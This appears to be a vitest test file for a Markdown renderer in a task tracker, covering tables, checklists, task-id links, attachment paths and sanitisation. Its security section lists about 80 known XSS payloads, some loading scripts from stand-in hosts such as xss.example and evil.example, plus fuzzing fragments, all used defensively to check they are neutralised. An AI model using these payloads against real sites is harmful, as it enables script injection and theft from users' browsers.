import fc from "fast-check";
import { Marked } from "marked";
import { describe, expect, it, vi } from "vitest";
import { renderMarkdown } from "./markdown.js";

const html = (markdown: string) => renderMarkdown(markdown).html;
const known = new Set(["WEB-1", "WEB-12", "API-4"]);
const taskUrl = (id: string) => (known.has(id) ? `/acme/tasks/${id}/` : undefined);
const linked = (markdown: string) => renderMarkdown(markdown, { taskUrl }).html;

describe("renderMarkdown: GitHub-flavoured Markdown", () => {
  it("renders tables with their alignment", () => {
    expect(html("| Item | Price |\n|:-----|------:|\n| Tea | 3 |")).toBe(
      [
        "<table>",
        "<thead>",
        "<tr>",
        '<th align="left">Item</th>',
        '<th align="right">Price</th>',
        "</tr>",
        "</thead>",
        "<tbody><tr>",
        '<td align="left">Tea</td>',
        '<td align="right">3</td>',
        "</tr>",
        "</tbody></table>",
        "",
      ].join("\n"),
    );
  });

  it("renders task lists with disabled checkboxes named for screen readers", () => {
    expect(html("- [ ] write\n- [x] read")).toBe(
      [
        "<ul>",
        '<li><input type="checkbox" disabled aria-label="not done" /> write</li>',
        '<li><input type="checkbox" disabled checked aria-label="done" /> read</li>',
        "</ul>",
        "",
      ].join("\n"),
    );
  });

  it("renders code blocks, code spans and strikethrough", () => {
    expect(html("```ts\nconst a = 1 < 2;\n```")).toBe(
      '<pre><code class="language-ts">const a = 1 &lt; 2;\n</code></pre>\n',
    );
    expect(html("Run `npm <ci>` ~~twice~~ once")).toBe(
      "<p>Run <code>npm &lt;ci&gt;</code> <del>twice</del> once</p>\n",
    );
  });

  it("turns bare URLs, www. addresses and e-mail addresses into links", () => {
    const rel = 'rel="noopener noreferrer nofollow"';
    expect(html("See https://example.com/a?b=1&c=2, www.example.org and ana@example.com.")).toBe(
      `<p>See <a ${rel} href="https://example.com/a?b=1&amp;c=2">https://example.com/a?b=1&amp;c=2</a>, ` +
        `<a ${rel} href="http://www.example.org">www.example.org</a> and ` +
        `<a ${rel} href="mailto:ana@example.com">ana@example.com</a>.</p>\n`,
    );
  });

  it("renders headings, quotes, emphasis, rules, breaks and images", () => {
    expect(
      html("## Plan *now*\n\n> **bold**  \n> next\n\n---\n\n![Mock-up](https://x.io/m.png)"),
    ).toBe(
      [
        "<h2>Plan <em>now</em></h2>",
        "<blockquote>",
        "<p><strong>bold</strong><br />next</p>",
        "</blockquote>",
        "<hr />",
        '<p><img alt="Mock-up" loading="lazy" src="https://x.io/m.png" /></p>',
        "",
      ].join("\n"),
    );
  });

  it("gives headings no ids, so text cannot clobber the page's DOM", () => {
    expect(html("# getElementById")).toBe("<h1>getElementById</h1>\n");
    expect(html('<h2 id="cookie" name="forms">x</h2>')).toBe("<h2>x</h2>");
    expect(html('<img name="getElementById" id="x" src="a.png">')).toBe(
      '<img alt="" loading="lazy" src="a.png" />',
    );
  });

  it("keeps harmless raw HTML and drops the rest, keeping its text", () => {
    expect(html("a <em>b</em> <kbd>Ctrl</kbd> <span style='color:red'>c</span>")).toBe(
      "<p>a <em>b</em> Ctrl c</p>\n",
    );
    expect(html("<details><summary>More</summary>\n\nInside\n\n</details>")).toBe(
      "More<p>Inside</p>\n",
    );
  });

  it("shows the source as text should marked fail", () => {
    const lexer = vi.spyOn(Marked.prototype, "lexer").mockImplementation(() => {
      throw new Error("boom");
    });
    try {
      expect(renderMarkdown("- [x] a <b>\n- [ ] c")).toEqual({
        html: "<p>- [x] a &lt;b&gt;\n- [ ] c</p>",
        checklist: { done: 0, total: 0 },
        text: "- [x] a <b> - [ ] c",
      });
    } finally {
      lexer.mockRestore();
    }
  });

  it("renders empty and blank input as nothing", () => {
    expect(renderMarkdown("")).toEqual({ html: "", checklist: { done: 0, total: 0 }, text: "" });
    expect(renderMarkdown(" \n\n\t\n").text).toBe("");
  });
});

describe("renderMarkdown: checklist", () => {
  it("counts items at every depth and takes [X] as done", () => {
    const body = [
      "- [x] design",
      "- [ ] build",
      "  - [X] front end",
      "  - [ ] back end",
      "      - [x] schema",
      "- plain item",
      "",
      "1. [ ] release",
      "",
      "> - [x] quoted",
    ].join("\n");
    expect(renderMarkdown(body).checklist).toEqual({ done: 4, total: 7 });
  });

  it("does not count look-alikes in code, in text or without a list", () => {
    const body = [
      "```",
      "- [x] in a fence",
      "```",
      "",
      "    - [ ] indented code",
      "",
      "[x] not a list item",
      "",
      "- [y] not a checkbox",
      "- `[x]` code",
    ].join("\n");
    expect(renderMarkdown(body).checklist).toEqual({ done: 0, total: 0 });
  });
});

describe("renderMarkdown: plain text", () => {
  it("collapses whitespace, separates blocks and decodes entities", () => {
    const { text } = renderMarkdown(
      "# Title\n\nFirst  *line*\nsame paragraph  \nafter break\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nA &amp; B < C &copy;",
    );
    expect(text).toBe("Title First line same paragraph after break one two a b 1 2 A & B < C ©");
  });

  it("includes code and link text but not markup, scripts or styles", () => {
    const { text } = renderMarkdown(
      "Use `npm ci` and [the docs](https://x.io).\n\n```sh\nmake  all\n```\n\n<script>alert(1)</script><style>p{}</style>Done",
    );
    expect(text).toBe("Use npm ci and the docs. make all Done");
  });
});

describe("renderMarkdown: task ids", () => {
  const link = (id: string) =>
    `<a rel="noopener noreferrer nofollow" href="/acme/tasks/${id}/">${id}</a>`;

  it("links ids the resolver knows, wherever text is", () => {
    expect(linked("Blocked by WEB-12 and API-4, not WEB-99.")).toBe(
      `<p>Blocked by ${link("WEB-12")} and ${link("API-4")}, not WEB-99.</p>\n`,
    );
    expect(linked("## WEB-1\n\n- [ ] **WEB-12**\n\n| Task |\n|---|\n| API-4 |")).toBe(
      [
        `<h2>${link("WEB-1")}</h2>`,
        "<ul>",
        `<li><input type="checkbox" disabled aria-label="not done" /> <strong>${link("WEB-12")}</strong></li>`,
        "</ul>",
        "<table>",
        "<thead>",
        "<tr>",
        "<th>Task</th>",
        "</tr>",
        "</thead>",
        "<tbody><tr>",
        `<td>${link("API-4")}</td>`,
        "</tr>",
        "</tbody></table>",
        "",
      ].join("\n"),
    );
  });

  it("leaves ids in code, in links and inside longer words alone", () => {
    expect(linked("`WEB-12`\n\n```\nWEB-12\n```")).toBe(
      "<p><code>WEB-12</code></p>\n<pre><code>WEB-12\n</code></pre>\n",
    );
    expect(linked("[see WEB-12](https://x.io) https://x.io/WEB-12")).toBe(
      '<p><a rel="noopener noreferrer nofollow" href="https://x.io">see WEB-12</a> ' +
        '<a rel="noopener noreferrer nofollow" href="https://x.io/WEB-12">https://x.io/WEB-12</a></p>\n',
    );
    expect(linked('<a href="https://x.io">WEB-12</a> then WEB-1')).toBe(
      `<p><a rel="noopener noreferrer nofollow" href="https://x.io">WEB-12</a> then ${link("WEB-1")}</p>\n`,
    );
    expect(linked("xWEB-12 WEB-12x WEB-12-2 NEWWEB-1 files/WEB-12/a.png WEB-012")).toBe(
      "<p>xWEB-12 WEB-12x WEB-12-2 NEWWEB-1 files/WEB-12/a.png WEB-012</p>\n",
    );
  });

  it("links nothing without a resolver", () => {
    expect(html("WEB-12")).toBe("<p>WEB-12</p>\n");
  });

  it("points relative links to task files at the task's page", () => {
    expect(
      renderMarkdown("[spec](../tasks/WEB-12-checkout-page.md) [x](API-4.md#notes)", { taskUrl })
        .html,
    ).toBe(
      '<p><a rel="noopener noreferrer nofollow" href="/acme/tasks/WEB-12/">spec</a> ' +
        '<a rel="noopener noreferrer nofollow" href="/acme/tasks/API-4/">x</a></p>\n',
    );
  });
});

describe("renderMarkdown: attachments", () => {
  const withBase = (markdown: string, base = "/acme/") => renderMarkdown(markdown, { base }).html;

  it("rewrites relative links and images to tracker files under the site's base", () => {
    expect(withBase("![Mock-up](../../../files/WEB-4/homepage.png)")).toBe(
      '<p><img alt="Mock-up" loading="lazy" src="/acme/files/WEB-4/homepage.png" /></p>\n',
    );
    expect(withBase("[spec](files/API-4/spec.pdf#page=2) [csv](./files/x.csv)")).toBe(
      '<p><a rel="noopener noreferrer nofollow" href="/acme/files/API-4/spec.pdf#page=2">spec</a> ' +
        '<a rel="noopener noreferrer nofollow" href="/acme/files/x.csv">csv</a></p>\n',
    );
    expect(withBase('<img src="../../files/a%20b.png" alt="raw">')).toBe(
      '<img alt="raw" loading="lazy" src="/acme/files/a%20b.png" />',
    );
  });

  it("adds the missing slash to the base and defaults it to /", () => {
    expect(withBase("![a](files/a.png)", "/acme")).toContain('src="/acme/files/a.png"');
    expect(html("![a](files/a.png)")).toContain('src="/files/a.png"');
  });

  it("leaves other links as written", () => {
    expect(withBase("[a](docs/a.md) [b](/files/b.png) [c](#top) [d](https://x.io/files/d)")).toBe(
      '<p><a rel="noopener noreferrer nofollow" href="docs/a.md">a</a> ' +
        '<a rel="noopener noreferrer nofollow" href="/files/b.png">b</a> ' +
        '<a rel="noopener noreferrer nofollow" href="#top">c</a> ' +
        '<a rel="noopener noreferrer nofollow" href="https://x.io/files/d">d</a></p>\n',
    );
  });
});

// Each is rendered alone, inside a paragraph, a list item and a table cell.
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<sCrIpT>alert(1)</ScRiPt>",
  '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=http://xss.example/xss.js?< B >",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<img src="x" alt="&quot; onerror=&quot;alert(1)">',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java&#x0D;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&#x3A;alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  "![x](javascript:alert(1))",
  "![x](JaVaScRiPt:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x" onerror="alert(1)](https://ok.example/x.png)',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  "<iframe src=http://xss.example/scriptlet.html <",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<form><button formaction=javascript:alert(1)>x</button></form>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  "<details open ontoggle=alert(1)>",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<!-- <script>alert(1)</script> -->",
  "<!--><script>alert(1)</script>-->",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<input autofocus onfocus=alert(1)>",
  '<input type="checkbox" onclick="alert(1)" checked>',
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<p onmouseover=alert(1)>hover</p>",
  '```"><script>alert(1)</script>\ncode\n```',
  '<a href="https://ok.example/?q=<script>">ok</a>',
];

/** A forbidden element: scripts, embedded documents, forms, page-wide settings, styles. */
const FORBIDDEN_TAG = /<(?:script|svg|math|iframe|object|embed|form|base|meta|style|link)\b/i;
/** The only tags and attributes rendered Markdown may have. */
const ALLOWED_ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  a: ["href", "title", "rel"],
  img: ["src", "alt", "title", "loading"],
  input: ["type", "checked", "disabled", "aria-label"],
  ol: ["start"],
  th: ["align"],
  td: ["align"],
  code: ["class"],
  ...Object.fromEntries(
    "h1 h2 h3 h4 h5 h6 p ul li pre blockquote table thead tbody tr em strong del hr br"
      .split(" ")
      .map((tag) => [tag, []]),
  ),
};
const TAG = /^<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/;
const ATTRIBUTE = /\s+([a-z-]+)(?:="([^"<>]*)")?/g;

/** Attribute text as the browser reads it; output may only hold these four references. */
function decodeAttribute(value: string): string {
  expect(value.replace(/&(?:amp|quot|lt|gt);/g, "")).not.toContain("&");
  return value
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/** Fails unless every tag in the HTML is allowed and every URL is http(s), mailto or relative. */
function expectSafe(output: string, input: string): void {
  const context = `input: ${JSON.stringify(input)}\noutput: ${JSON.stringify(output)}`;
  expect(output, context).not.toMatch(FORBIDDEN_TAG);
  for (let at = output.indexOf("<"); at !== -1; at = output.indexOf("<", at + 1)) {
    const tag = TAG.exec(output.slice(at));
    expect(tag, `stray "<" at ${at}\n${context}`).not.toBeNull();
    const [source, , name, attributes] = tag!;
    // an event handler attribute, however spelt; attribute values may mention one harmlessly
    expect(source!.replace(/="[^"]*"/g, ""), context).not.toMatch(/\son\w+/i);
    const allowed = ALLOWED_ATTRIBUTES[name!];
    expect(allowed, `tag ${name}\n${context}`).toBeDefined();
    for (const [, attribute, raw] of attributes!.matchAll(ATTRIBUTE)) {
      expect(allowed, `attribute ${attribute} on ${name}\n${context}`).toContain(attribute);
      if (attribute !== "href" && attribute !== "src") continue;
      // browsers drop spaces and control characters before reading the scheme
      // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is dropped
      const url = decodeAttribute(raw ?? "").replace(/[\u0000-\u0020\u007f]/g, "");
      expect(url, context).not.toMatch(/^(?:javascript|vbscript|data|\/\/|\\)/i);
      const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]?.toLowerCase();
      if (scheme !== undefined) expect(["http", "https", "mailto"], context).toContain(scheme);
    }
  }
}

describe("renderMarkdown: security", () => {
  it(`neutralises ${PAYLOADS.length} known XSS payloads`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    for (const payload of PAYLOADS) {
      for (const markdown of [
        payload,
        `Text ${payload} text`,
        `- [ ] ${payload}`,
        `| a |\n|---|\n| ${payload} |`,
      ]) {
        expectSafe(renderMarkdown(markdown, { base: "/acme/", taskUrl }).html, markdown);
      }
    }
  });

  it("keeps the text of dropped tags but never a script's or style's", () => {
    expect(html("<script>alert(1)</script><style>p{}</style>ok")).toBe("ok");
    expect(html("<svg onload=alert(1)><text>label</text></svg>")).toBe("<p>label</p>\n");
    expect(html('<a href="javascript:alert(1)">click</a>')).toBe(
      '<p><a rel="noopener noreferrer nofollow">click</a></p>\n',
    );
    expect(html("[x](javascript:alert(1))")).toBe(
      '<p><a rel="noopener noreferrer nofollow">x</a></p>\n',
    );
  });

  it("shows HTML written in code as text", () => {
    expect(html("`<img src=x onerror=alert(1)>`")).toBe(
      "<p><code>&lt;img src=x onerror=alert(1)&gt;</code></p>\n",
    );
  });

  it("adds rel to every link, never a target, and lazy loading to images", () => {
    expect(html('<a href="https://x.io" target="_blank" rel="opener">x</a>')).toBe(
      '<p><a rel="noopener noreferrer nofollow" href="https://x.io">x</a></p>\n',
    );
    expect(html('<img src="https://x.io/a.png" loading="eager" width="9">')).toBe(
      '<img alt="" loading="lazy" src="https://x.io/a.png" />',
    );
  });

  it("keeps only disabled checkboxes of all inputs", () => {
    expect(html('<input type="text" name="q" value="x"> <input type="checkbox" name="c">')).toBe(
      '<p> <input type="checkbox" disabled aria-label="not done" /></p>\n',
    );
  });

  it("allows only http(s) images, and links also to mailto", () => {
    expect(html("![a](mailto:a@b.c) [b](mailto:a@b.c) [c](ftp://x.io) [d](//evil.example)")).toBe(
      '<p><img alt="a" loading="lazy" /> <a rel="noopener noreferrer nofollow" href="mailto:a@b.c">b</a> ' +
        '<a rel="noopener noreferrer nofollow">c</a> <a rel="noopener noreferrer nofollow">d</a></p>\n',
    );
  });

  it("never lets arbitrary mixes of payload fragments through", () => {
    const fragments = [
      "<script>",
      "</script>",
      "<svg",
      "<math>",
      "<style>",
      "</style>",
      "<iframe",
      "<img src=x",
      "<a href=",
      "<form action=",
      "<base href=x>",
      "<meta ",
      "<object data=",
      "<embed src=",
      "<noscript>",
      "</noscript>",
      "<!--",
      "-->",
      "<![CDATA[",
      "]]>",
      " onerror=alert(1)",
      " onload=alert(1) ",
      "javascript:",
      "JaVaScRiPt:",
      "vbscript:",
      "data:text/html,",
      "jav&#x09;ascript:",
      "&#106;avascript:",
      "&#x3A;",
      "&colon;",
      "\t",
      "\n",
      "\u0000",
      " ",
      '"',
      "'",
      "`",
      ">",
      "<",
      "/",
      "=",
      "[x](",
      "![x](",
      ")",
      "]",
      "<",
      "- [ ] ",
      "| a |\n|---|\n| ",
      "```\n",
      "WEB-12",
    ];
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 4 })), {
          maxLength: 30,
        }),
        (parts) => {
          const markdown = parts.join("");
          expectSafe(renderMarkdown(markdown, { base: "/acme/", taskUrl }).html, markdown);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
